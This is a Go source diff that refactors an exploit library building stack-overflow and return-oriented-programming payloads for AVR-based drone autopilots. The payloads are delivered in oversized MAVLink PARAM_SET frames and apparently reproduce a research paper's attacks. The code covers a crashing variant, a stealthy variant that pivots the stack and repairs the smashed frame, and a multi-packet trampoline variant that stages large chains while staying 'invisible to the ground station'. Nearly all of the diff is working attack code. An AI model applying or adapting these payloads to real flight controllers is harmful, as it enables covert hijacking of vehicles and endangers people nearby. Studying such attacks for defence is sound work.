@@ -14,36 +14,7 @@ import (
 // the chain then returns into garbage — the stack frames stay
 // destroyed and the board crashes, the drawback V2 fixes.
 func BuildV1(a *Analysis, writes ...Write) ([]byte, error) {
-	if len(writes) == 0 {
-		return nil, fmt.Errorf("attack: V1 needs at least one write")
-	}
-	p := make([]byte, a.PayloadLen(), 256)
-	for i := range p {
-		p[i] = 0x42 // garbage filler, as in the paper's description
-	}
-	var c chain
-	// The handler's own epilogue pops run first; their slots are junk.
-	c.ret(a.WriteMem.PopsAddr)
-	c.popFrame(a.WriteMem.PopRegs, writeVals(a, writes[0]))
-	for _, w := range writes[1:] {
-		c.ret(a.WriteMem.StoreAddr)
-		c.popFrame(a.WriteMem.PopRegs, writeVals(a, w))
-	}
-	c.ret(a.WriteMem.StoreAddr)
-	// The store half's pop tail consumes junk and its ret lands in
-	// garbage — the destroyed-stack behaviour of §IV-C.
-	c.popFrame(a.WriteMem.PopRegs, nil)
-	c.ret(0x3FFFFF)
-	copy(p[a.retSlot():], c.buf[:3])
-	p = append(p, c.buf[3:]...)
-	if len(p) > 255 {
-		return nil, ErrPayloadTooLong
-	}
-	// The chain above the return slot must stay inside SRAM.
-	if int(a.S0)+len(p)-a.retSlot() > avr.DataSpaceSize-1 {
-		return nil, ErrPayloadTooLong
-	}
-	return p, nil
+	return landingPayloadFor(a, fig5Writer(a.WriteMem), writes...)
 }
 
 // BuildV2 constructs the stealthy clean-return payload (§IV-D): the
@@ -51,86 +22,41 @@ func BuildV1(a *Analysis, writes ...Write) ([]byte, error) {
 // buffer itself, the pivoted chain performs userWrites, then repairs
 // the smashed frame and returns to the handler's original caller.
 func BuildV2(a *Analysis, userWrites ...Write) ([]byte, error) {
-	writes := append(append([]Write(nil), userWrites...), repairWrites(a)...)
-	ch, err := buildChain(a, writes, a.cleanReturnSP())
-	if err != nil {
-		return nil, err
-	}
-	return assemblePivotPayload(a, ch, a.BufAddr)
+	return stealthPayloadFor(a, a.StkMove, fig5Writer(a.WriteMem), userWrites...)
 }
 
 // BuildV3 constructs the trampoline attack (§IV-E): a sequence of
 // stealthy V2 packets stages an arbitrarily large chain into unused
 // SRAM at stageAddr, and a final pivot-only packet executes it. The
-// staged chain performs all bigWrites and still ends with the frame
-// repair and clean return, so the whole multi-packet attack is
-// invisible to the ground station.
+// staged chain is the one V2 would embed for bigWrites — it still ends
+// with the frame repair and clean return, so the whole multi-packet
+// attack is invisible to the ground station.
 func BuildV3(a *Analysis, bigWrites []Write, stageAddr uint16) ([][]byte, error) {
-	writes := append(append([]Write(nil), bigWrites...), repairWrites(a)...)
-	staged, err := buildChain(a, writes, a.cleanReturnSP())
-	if err != nil {
-		return nil, err
-	}
+	wr := fig5Writer(a.WriteMem)
+	staged := stealthChain(a, a.StkMove, wr, bigWrites)
 	var packets [][]byte
 	for off := 0; off < len(staged); off += 3 {
-		var w Write
-		w.Addr = stageAddr + uint16(off)
-		for i := 0; i < 3; i++ {
-			if off+i < len(staged) {
-				w.Vals[i] = staged[off+i]
-			} else {
-				w.Vals[i] = 0x61
-			}
-		}
-		p, err := BuildV2(a, w)
+		w := Write{Addr: stageAddr + uint16(off), Vals: [3]byte{0x61, 0x61, 0x61}}
+		copy(w.Vals[:], staged[off:])
+		p, err := stealthPayloadFor(a, a.StkMove, wr, w)
 		if err != nil {
 			return nil, fmt.Errorf("attack: staging packet at +%d: %w", off, err)
 		}
 		packets = append(packets, p)
 	}
 	// Final packet: pivot straight into the staged chain.
-	final, err := assemblePivotPayload(a, nil, stageAddr)
+	final, err := pivotPayload(a, a.StkMove, nil, stageAddr)
 	if err != nil {
 		return nil, err
 	}
 	return append(packets, final), nil
 }
 
-// StagedChainLen reports how long the V3 staged chain for n big writes
-// is, so examples can size the staging area.
+// StagedChainLen is the length of the chain BuildV3 stages for n big
+// writes, so examples can size the staging area: BuildV3 sends one
+// packet per 3 staged bytes plus the final pivot.
 func StagedChainLen(a *Analysis, n int) int {
-	per := len(a.WriteMem.PopRegs) + 3
-	return len(a.StkMove.PopRegs) + 3 + per*(n+2) + 3
-}
-
-// assemblePivotPayload lays out an overflow payload that (1) embeds
-// chain at the buffer start, (2) loads the saved-r28/r29 slots with
-// pivotTo-1 and (3) overwrites the return address with the stk_move
-// gadget. The handler's epilogue then pivots SP to pivotTo-1 and the
-// chain (at pivotTo) executes.
-func assemblePivotPayload(a *Analysis, ch []byte, pivotTo uint16) ([]byte, error) {
-	p := make([]byte, a.PayloadLen())
-	for i := range p {
-		p[i] = 0x42
-	}
-	// The final ret slot of an in-buffer chain may overlap the r16/r17
-	// pop slots (harmless) but never the r28/r29 or return slots.
-	limit := a.popSlot(28)
-	if s := a.popSlot(29); s < limit {
-		limit = s
-	}
-	if len(ch) > limit {
-		return nil, fmt.Errorf("%w: chain %d bytes, frame allows %d", ErrPayloadTooLong, len(ch), limit)
-	}
-	copy(p, ch)
-	pivot := pivotTo - 1
-	p[a.popSlot(28)] = byte(pivot)
-	p[a.popSlot(29)] = byte(pivot >> 8)
-	rs := a.retSlot()
-	p[rs] = byte(a.StkMove.Addr >> 16)
-	p[rs+1] = byte(a.StkMove.Addr >> 8)
-	p[rs+2] = byte(a.StkMove.Addr)
-	return p, nil
+	return len(stealthChain(a, a.StkMove, fig5Writer(a.WriteMem), make([]Write, n)))
 }
 
 // Frame wraps a payload in the oversize MAVLink PARAM_SET frame the
